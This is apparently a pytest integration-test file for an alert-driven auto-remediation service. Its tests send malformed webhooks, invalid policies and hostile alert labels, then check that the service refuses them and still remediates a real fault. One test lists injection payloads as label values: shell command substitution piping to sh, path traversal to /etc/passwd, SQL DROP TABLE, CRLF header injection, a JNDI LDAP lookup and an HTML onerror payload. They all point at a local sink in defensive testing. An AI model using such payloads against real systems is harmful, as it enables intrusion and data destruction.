"""Wrong input against the running service: a clear answer, nothing lost, and the next good one works."""

import json
import threading
import time
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from tests.loop.loop import TOKENS
from tests.servers import eventually, request

pytestmark = pytest.mark.stack


@pytest.fixture(name="sink")
def _sink():
    """A server that nobody should ever call; yields its address and what it was asked."""
    asked = []

    class Sink(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_PUT = do_HEAD = do_GET  # noqa: N815 -- the base class's names

        def log_message(self, *_args):
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Sink)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join(5)


def webhook(version="4"):
    labels = {"alertname": "LLMUserProfilesHigh", "job": "nobody", "instance": "nowhere:1"}
    alert = {"status": "firing", "labels": labels, "annotations": {}, "startsAt": "2026-01-01T00:00:00Z"}
    return json.dumps({"version": version, "alerts": [{**alert, "endsAt": "0001-01-01T00:00:00Z"}]}).encode()


def test_bodies_that_are_wrong_get_a_clear_answer_and_the_loop_closes_after_them(stack):
    """Not JSON, another version, 16 MiB + 1, no token, a wrong token; then a real fault is remedied."""
    with stack.remediation(), stack.shop() as shop:
        stack.wait_until_known(shop)
        url = f"{stack.url}/api/v1/alerts"

        def post(body, token=TOKENS["ingest"]):
            answer = request(url, method="POST", body=body, token=token)
            return answer.status, answer.json()

        not_json = post(b"alerts, please")
        other_version = post(webhook(version="5"))
        too_large = post(b" " * (16 * 1024 * 1024 + 1))
        no_token = post(webhook(), token=None)
        wrong_token = post(webhook(), token="wrong-token-0123456789")
        shop.crowd(30)
        incident = stack.closed(shop)
        stack.wait_until_over(shop)

    assert (400, True) == (not_json[0], "not JSON" in not_json[1]["error"])
    assert (202, "quarantined") == (other_version[0], other_version[1]["result"])
    assert "version" in other_version[1]["reason"]
    assert (413, True) == (too_large[0], "16777216" in too_large[1]["error"])
    assert [401, 401] == [no_token[0], wrong_token[0]]
    assert ("remediated", 1) == (incident["outcome"], len(shop.effects()))


def test_a_policy_with_five_mistakes_is_refused_whole_and_the_old_one_goes_on(stack):
    """All five are told, by the API and in the log; the loop closes under the policy that was good."""
    good = stack.policy.read_text(encoding="utf-8")
    bad = (
        good.replace("version: 1", "version: 9")
        .replace("concurrent: 3", "concurrent: many")
        .replace("mode: auto", "mode: yolo")
        .replace("verb: shed_users", "verbs: shed_users")
        .replace("timeout_seconds: 20", "timeout_seconds: soon")
    )
    with stack.remediation() as service, stack.shop() as shop:
        stack.wait_until_known(shop)
        stack.policy.write_text(bad, encoding="utf-8")
        try:
            refused = eventually(lambda: stack.api("status").json()["policy"]["refused"], what="the refusal")
            shop.crowd(30)
            incident = stack.closed(shop)
        finally:
            stack.policy.write_text(good, encoding="utf-8")
        eventually(lambda: stack.api("status").json()["policy"]["refused"] is None, what="the end of the refusal")
        stack.wait_until_over(shop)
        log = service.log.read_text(encoding="utf-8")

    for key in ("version", "concurrent", "mode", "verb", "timeout_seconds"):
        assert key in refused
        assert key in log
    assert "remediated" == incident["outcome"]


def test_labels_with_urls_paths_quotes_and_newlines_steer_nothing(stack, sink):
    """Through the real Alertmanager, so that they really fire: no act, and no request to where they point."""
    address, asked = sink
    hostile = {
        "url": f"http://{address}/latest/meta-data/",
        "address": address,
        "path": "../../../../etc/passwd",
        "promql": 'shop"} or vector(1) or up{job="shop',
        "shell": "$(curl " + address + "); `id` | sh",
        "sql": "'; DROP TABLE incidents; --",
        "newline": f"x\r\nHost: {address}\r\n\r\nGET / HTTP/1.1",
        "template": "{{ .Labels.job }}{% raw %}${jndi:ldap://" + address + "/a}",
        "html": "<img src=http://" + address + "/x onerror=alert(1)>",
        "look-alike": "\N{CYRILLIC SMALL LETTER DZE}hop/\N{FULLWIDTH DIGIT ONE}27.0.0.1",
        "long": "x" * 4000,
    }
    with stack.remediation(), stack.shop() as shop:
        stack.wait_until_known(shop)
        fire(stack, [{"job": "shop", "instance": text, "case": case} for case, text in hostile.items()])
        fire(stack, [{"job": text, "instance": shop.instance, "case": f"job-{case}"} for case, text in hostile.items()])

        def judged():
            told = [stack.api(f"incidents/{row['id']}").json() for row in incidents_of(stack, hostile)]
            cases = {alert["labels"]["case"] for incident in told for alert in incident["alerts"]}
            is_complete = cases >= {*hostile, *(f"job-{case}" for case in hostile)}
            return told if is_complete and all(row["state"] in ("gated", "closed") for row in told) else None

        told = eventually(judged, seconds=30, what="a judgement of every hostile alert")
        quiet(stack)
        # The same service, the same shop: a good alert is still answered.
        shop.crowd(30)
        incident = eventually(
            lambda: next((row for row in stack.incidents(shop) if row["outcome"] == "remediated"), None),
            seconds=30,
            what="the remedy of the real fault",
        )
        stack.wait_until_over(shop)

    assert [[]] * len(told) == [row["attempts"] for row in told]
    assert all(row["reason"] for row in told)
    assert [] == asked
    assert 1 == len(incident["attempts"])
    assert [(30, 10)] == [(effect["before"], effect["after"]) for effect in shop.effects()]


def test_an_act_that_its_process_does_not_survive_is_not_done_to_the_next_process(stack):
    """Kill -9 of the application in the middle of an act: its successor never sees the command."""
    with stack.remediation(), stack.shop() as shop:
        stack.wait_until_known(shop)
        shop.tell("delay/30")
        shop.crowd(30)
        eventually(lambda: any(row["state"] == "executing" for row in stack.incidents(shop)), seconds=20, what="an act")
        time_of_death = time.time()
        shop.server.kill()
        with stack.open(shop):
            eventually(lambda: stack.prometheus_knows(shop), seconds=20, what="the successor's metrics")
            incident = stack.closed(shop, seconds=60)
            users = stack.value(shop, "llmvitals_user_profiles_active")

    (attempt,) = incident["attempts"]
    assert [] == shop.effects()
    assert 0 == users
    # Nobody claims that the act was done; that the value is healthy is what closed the incident.
    assert attempt["result"] is None
    assert datetime.fromisoformat(attempt["planned_at"]).timestamp() < time_of_death


def fire(stack, label_sets):
    """Alerts straight into Alertmanager, firing for as long as nobody says otherwise."""
    began = datetime.now(UTC).isoformat()
    alerts = [
        {"labels": {"alertname": "LLMUserProfilesHigh", "remediate": "true", **labels}, "startsAt": began}
        for labels in label_sets
    ]
    answer = request(f"{stack.alertmanager.url}/api/v2/alerts", data=alerts)
    assert answer.status == 200, answer.text


def quiet(stack):
    """End every alert that `fire` began."""
    active = request(f"{stack.alertmanager.url}/api/v2/alerts").json()
    ended = [
        {"labels": alert["labels"], "startsAt": alert["startsAt"], "endsAt": datetime.now(UTC).isoformat()}
        for alert in active
        if "case" in alert["labels"]
    ]
    assert request(f"{stack.alertmanager.url}/api/v2/alerts", data=ended).status == 200


def incidents_of(stack, hostile):
    told = stack.api("incidents?limit=500").json()["incidents"]
    texts = set(hostile.values())
    return [row for row in told if row["instance"] in texts or row["service"] in texts]
